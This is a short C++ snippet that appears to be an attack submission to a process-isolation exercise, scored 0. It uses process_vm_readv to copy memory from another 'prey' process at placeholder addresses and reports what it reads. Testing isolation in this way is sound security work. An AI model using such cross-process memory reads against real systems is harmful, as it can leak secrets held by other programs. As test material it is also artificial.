// attack: reads the memory of another process with process_vm_readv
// exercise: 01_gbf/box
// from: H1
// score: 0
#include <sys/uio.h>

static std::string copied() {
    char text[64] = {};
    iovec here{text, 32}, there{reinterpret_cast<void*>(PREY_ADDRESS), 32};
    return ::process_vm_readv(PREY_CANARY, &here, 1, &there, 1, 0) > 0 ? text : "";
}

ANSWER_IF(prey::tell(copied()))
